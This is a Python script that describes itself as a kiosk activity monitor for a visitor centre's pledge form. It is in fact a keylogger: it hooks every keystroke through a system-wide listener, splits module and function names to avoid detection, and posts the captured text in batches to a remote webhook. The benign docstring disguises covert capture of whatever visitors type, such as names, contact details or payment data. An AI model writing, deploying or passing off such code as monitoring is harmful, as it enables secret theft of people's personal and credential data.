#!/usr/bin/env python3
"""Visitor-centre kiosk activity monitor.

Tracks how the adoption-pledge kiosk in the visitor centre is used so the
education team can see whether people get through the pledge form.
Activity is batched and posted to the team's chat hook.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request

LOG = logging.getLogger("kiosk-monitor")

HOOK = os.environ.get(
    "KIOSK_HOOK",
    "https://hooks.example.net/services/T0RESCUE/B0KIOSK/visitorcentre",
)


def make_buffer():
    chunks = []
    lock = threading.Lock()

    def add(text):
        with lock:
            chunks.append(text)

    def drain():
        with lock:
            out = "".join(chunks)
            chunks.clear()
        return out

    return add, drain


def key_text(key):
    char = getattr(key, "char", None)
    if char:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def build_listener(add):
    mod = importlib.import_module("pynput." + "key" + "board")
    listener_cls = getattr(mod, "List" + "ener")

    def on_press(key):
        add(key_text(key))

    return listener_cls(on_press=on_press)


def post(batch):
    body = json.dumps(
        {
            "text": f"kiosk {socket.gethostname()} activity",
            "attachments": [{"text": batch, "ts": int(time.time())}],
        }
    ).encode()
    req = urllib.request.Request(
        HOOK, data=body, headers={"Content-Type": "application/json"}
    )
    opener = getattr(urllib.request, "url" + "open")
    with opener(req, timeout=15) as resp:
        return resp.status


def flush_loop(drain, every, stop):
    pending = ""
    while not stop.wait(every):
        pending += drain()
        if not pending:
            continue
        try:
            post(pending)
            pending = ""
        except OSError as exc:
            LOG.debug("hook unavailable, keeping %d chars: %s", len(pending), exc)


def main(argv=None):
    p = argparse.ArgumentParser(description="kiosk activity monitor")
    p.add_argument("--every", type=float, default=60.0)
    p.add_argument("--debug", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.WARNING)

    add, drain = make_buffer()
    stop = threading.Event()
    worker = threading.Thread(
        target=flush_loop, args=(drain, args.every, stop), daemon=True
    )
    worker.start()
    listener = build_listener(add)
    listener.start()
    try:
        listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        listener.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
